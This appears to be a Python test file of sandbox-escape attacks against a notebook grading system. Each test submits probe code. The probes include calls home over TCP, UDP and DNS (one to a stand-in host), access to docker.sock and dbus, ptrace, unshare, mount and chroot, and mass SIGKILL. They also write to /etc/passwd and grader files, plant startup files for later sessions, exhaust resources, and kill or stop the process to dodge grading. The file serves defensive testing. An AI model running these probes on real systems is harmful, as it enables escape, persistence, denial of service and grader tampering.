"""Ways out of the sandbox: the network, other processes, namespaces, mounts, time."""

from __future__ import annotations

from tests.attacks.catalogue import Family
from tests.attacks.submission import Work

family = Family("escape")
attack = family.attack


@attack(tells="nobody answered")
def calls_home_over_tcp(work: Work) -> None:
    """Connects to a port of the machine itself, and to the internet."""
    work.first(
        f"""
        import socket
        for address in (("127.0.0.1", {work.host.tcp}), ("192.0.2.1", 80)):
            try:
                socket.create_connection(address, timeout=0.3).sendall(b"loot")
                print("connected")
            except OSError as error:
                print("nobody answered:", error)
        """
    )


@attack(tells="sent|nobody answered")
def calls_home_over_udp(work: Work) -> None:
    """Sends datagrams to a port of the machine, over both versions of the protocol."""
    work.first(
        f"""
        import socket
        for family, address in (
            (socket.AF_INET, ("127.0.0.1", {work.host.udp})),
            (socket.AF_INET6, ("::1", {work.host.udp})),
        ):
            try:
                sender = socket.socket(family, socket.SOCK_DGRAM)
                sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                print("sent", sender.sendto(b"loot", address))
            except OSError as error:
                print("nobody answered:", error)
        """
    )


@attack(tells="no name", dangerous=True)
def calls_home_over_dns(work: Work) -> None:
    """Sends its findings out as a domain name to look up."""
    work.first(
        """
        import socket
        try:
            print(socket.getaddrinfo("loot.example.com", 80))
        except OSError as error:
            print("no name:", error)
        """
    )


@attack(tells="nobody answered", dangerous=True)
def calls_home_over_unix_sockets(work: Work) -> None:
    """Connects to sockets of the machine by their path, and by an abstract name."""
    work.first(
        f"""
        import glob, socket
        names = ["/run/dbus/system_bus_socket", "/var/run/docker.sock",
                 *glob.glob("/tmp/open-the-hood-*/s/*")]
        for address in ({work.host.unix!r}, "\\0" + {work.host.abstract!r}, *names):
            try:
                socket.socket(socket.AF_UNIX).connect(address)
                print("connected", address)
            except OSError as error:
                print("nobody answered:", error)
        """
    )


@attack(tells="refused", dangerous=True)
def opens_other_sockets(work: Work) -> None:
    """Opens raw, packet and virtual machine sockets, and asks the kernel for its interfaces."""
    work.first(
        """
        import socket
        for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW),
                             (40, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET)):
            try:
                socket.socket(family, kind)
                print("opened", family)
            except OSError as error:
                print("refused:", error)
        print(socket.if_nameindex())
        """
    )


@attack(tells="started", dangerous=True)
def stays_behind_as_a_daemon(work: Work) -> None:
    """Forks twice into a new session, ignores signals, and waits for the next learner."""
    work.first(
        """
        import os, signal, time
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for number in range(1, 32):
                        try: signal.signal(number, signal.SIG_IGN)
                        except (OSError, ValueError): pass
                    time.sleep(1000)
                os._exit(0)
        print("started")
        """
    )


@attack(tells="started", dangerous=True)
def keeps_a_child_in_the_background(work: Work) -> None:
    """Starts a process with nohup, out of a subshell, that writes where others might look."""
    work.last(
        """
        import subprocess
        subprocess.Popen(["sh", "-c", "(nohup sh -c 'while :; do echo x >> /tmp/hood-loot;"
                          " echo x >> /dev/shm/hood-loot; sleep 0.1; done' >/dev/null 2>&1 &)"])
        print("started")
        """
    )


@attack(costs=("twice",), tells="kernel died", dangerous=True)
def kills_everybody(work: Work) -> None:
    """Sends signals to its parent, to process 1, and to every process that it may signal."""
    work.first(
        """
        import os, signal
        for pid in (os.getppid(), 1, 2, *range(3, 4000)):
            if pid not in (0, os.getpid()):
                try:
                    os.kill(pid, signal.SIGKILL)
                    print("killed", pid)
                except OSError as error:
                    if pid < 3: print("refused:", error)
        """
    )


@attack(tells="refused", dangerous=True)
def traces_others(work: Work) -> None:
    """Attaches to processes with ptrace, and reads and writes their memory."""
    work.first(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in (1, os.getppid(), os.getpid()):
            for request in (16, 0x4206):
                if libc.ptrace(request, pid, 0, 0) == -1:
                    print("refused:", os.strerror(ctypes.get_errno()))
                else:
                    print("traced", pid)
            print(libc.syscall(310, pid, 0, 0, 0, 0, 0), libc.syscall(438, pid, 0, 0))
        """
    )


@attack(tells="refused", dangerous=True)
def mounts_and_unshares(work: Work) -> None:
    """Makes its own namespaces, mounts missing file systems, and becomes root in them."""
    work.first(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        def said(result):
            print("done" if result == 0 else "refused: " + os.strerror(ctypes.get_errno()))
        said(libc.unshare(0x10000000 | 0x00020000))
        said(libc.unshare(0x40000000))
        said(libc.mount(b"proc", b"/tmp", b"proc", 0, None))
        said(libc.mount(b"/", b"/tmp", None, 4096, None))
        said(libc.umount2(b"/home/learner", 2))
        said(libc.setuid(0)); said(libc.setgid(0))
        said(libc.chroot(b"/proc/1/root"))
        said(libc.syscall(308, os.open("/proc/1/ns/mnt", os.O_RDONLY) if
             os.access("/proc/1/ns/mnt", os.R_OK) else 0, 0))
        os.system("unshare -Ur id; mount -t tmpfs x /mnt; id; su -c id; sudo -n id")
        """
    )


@attack(tells="refused", dangerous=True)
def makes_devices(work: Work) -> None:
    """Makes device nodes and set-user-id programs, and opens the machine's devices."""
    work.first(
        """
        import os, stat
        for kind, numbers in ((stat.S_IFBLK, (8, 0)), (stat.S_IFCHR, (1, 1))):
            try:
                os.mknod("/tmp/device", kind | 0o666, os.makedev(*numbers))
                print("made")
            except OSError as error:
                print("refused:", error)
        for path in ("/dev/sda", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/vda"):
            try:
                open(path, "rb").read(1)
                print("opened", path)
            except OSError as error:
                print("refused:", error)
        open("/tmp/suid", "w").write("x"); os.chmod("/tmp/suid", 0o6777)
        """
    )


@attack(tells="refused", dangerous=True)
def writes_to_the_machine(work: Work) -> None:
    """Writes to the Python environment, to /proc/sys, to cgroups, to the grader's files."""
    work.first(
        f"""
        import os, sys, torch, hood.judge.connection.rpc_server, utils
        for path in (torch.__file__, hood.judge.connection.rpc_server.__file__, utils.__file__,
                     sys.executable,
                     "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/x",
                     "/usr/bin/hood-loot", "/etc/passwd", "{work.host.course}/gradebook.db",
                     "/proc/self/oom_score_adj", "/proc/1/oom_score_adj"):
            try:
                descriptor = os.open(path, os.O_WRONLY | os.O_APPEND)
                print("writes", path)
            except OSError as error:
                print("refused:", error)
        """
    )


@attack(tells="refused: .*Read-only")
def survives_the_end_of_memory(work: Work) -> None:
    """Asks Linux to kill other processes first if memory is short."""
    work.first(
        """
        try:
            with open("/proc/self/oom_score_adj", "w") as file:
                file.write("0")
            print("lowered to", open("/proc/self/oom_score_adj").read())
        except OSError as error:
            print("refused:", error)
        """
    )


@attack(tells="kernel died|died")
def ends_its_kernel(work: Work) -> None:
    """Ends its own process during judging, so that only earlier outputs are graded."""
    work.answer("row_sums", "import os\ndef row_sums(x):\n    os._exit(0)")


@attack(
    costs=("row_sums",), seconds=12, tells="could not be interrupted|not run|time", cell_seconds=1
)
def stops_itself(work: Work) -> None:
    """Sends itself SIGSTOP during judging: no interrupt wakes it."""
    work.answer(
        "row_sums",
        "import os, signal\ndef row_sums(x):\n    os.kill(os.getpid(), signal.SIGSTOP)",
    )


@attack(tells="locked 0", dangerous=True)
def leaves_shared_memory(work: Work) -> None:
    """Leaves shared memory, semaphores, locks and queues behind for others to find."""
    work.first(
        """
        import ctypes, multiprocessing.shared_memory as shared
        segment = shared.SharedMemory("hood-loot", create=True, size=4096)
        segment.buf[:4] = b"loot"
        libc = ctypes.CDLL(None, use_errno=True)
        print(libc.shmget(0x1234, 4096, 0o1666), libc.semget(0x1234, 1, 0o1666),
              libc.msgget(0x1234, 0o1666), libc.syscall(319, b"hood-loot", 0))
        print("locked", 0)
        """
    )


@attack(dangerous=True)
def speaks_to_the_next_learner(work: Work) -> None:
    """Writes modules, caches and settings where the next kernel might pick them up."""
    work.first(
        """
        import glob, os, sys
        evil = "print('hood-loot')"
        places = ["/tmp/torch.py", "/tmp/utils.py", "/dev/shm/hood-loot", "/tmp/inductor/evil.py",
                  os.path.expanduser("~/.ipython/profile_default/startup/evil.py"),
                  os.path.expanduser("~/.config/matplotlib/matplotlibrc"),
                  os.path.expanduser("~/.local/lib/python3.11/site-packages/usercustomize.py")]
        for path in places + [os.path.join(folder, "evil.pth") for folder in sys.path]:
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "w").write(evil)
            except OSError as error:
                pass
        """
    )


@attack(tells="unseen.*(?s:.*)unseen", dangerous=True)
def signals_with_what_all_sandboxes_see(work: Work) -> None:
    """Locks and watches a file that other sandboxes see, as a signal to code that runs there."""
    work.first(
        """
        import ctypes, fcntl, os, sys, torch
        def seen():
            other = open(torch.__file__)
            try:
                fcntl.flock(other, fcntl.LOCK_EX | fcntl.LOCK_NB)
                return 0
            except OSError:
                return 1
        mine = open(torch.__file__)
        fcntl.flock(mine, fcntl.LOCK_EX)
        child = os.fork()
        if child == 0:
            os._exit(seen())
        print("unseen" if os.waitpid(child, 0)[1] == 0 else "seen")
        try:
            fcntl.fcntl(mine, fcntl.F_SETLEASE, fcntl.F_RDLCK)
            print("seen")
        except OSError:
            print("unseen")
        print("unseen" if ctypes.CDLL(None).inotify_init() == -1 else "seen")
        """
    )


@attack(tells="unseen", dangerous=True)
def signals_by_what_the_whole_machine_counts(work: Work) -> None:
    """Opens many files as a signal to other code: Linux counts open files for the whole machine."""
    work.first(
        """
        import os
        def figures():
            found = {}
            for top in ("/proc", "/sys"):
                for folder, folders, names in os.walk(top):
                    folders[:] = [name for name in folders if not name.isdigit()]
                    for path in (os.path.join(folder, name) for name in names):
                        try:
                            found[path] = open(path, "rb").read(100_000)
                        except OSError:
                            pass
            return {path: said for path, said in found.items() if path != "/proc/mounts"}
        before = figures()
        opened = [open("/dev/null") for _ in range(200)]
        print("unseen" if figures() == before else "seen")
        """
    )


@attack(tells="took 0 terminals", dangerous=True)
def takes_all_terminals(work: Work) -> None:
    """Opens pseudo-terminals until the machine has none left."""
    work.first(
        """
        import os
        taken = []
        try:
            while len(taken) < 900:
                taken.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
        except OSError as error:
            print(error)
        print("took", len(taken), "terminals")
        """
    )
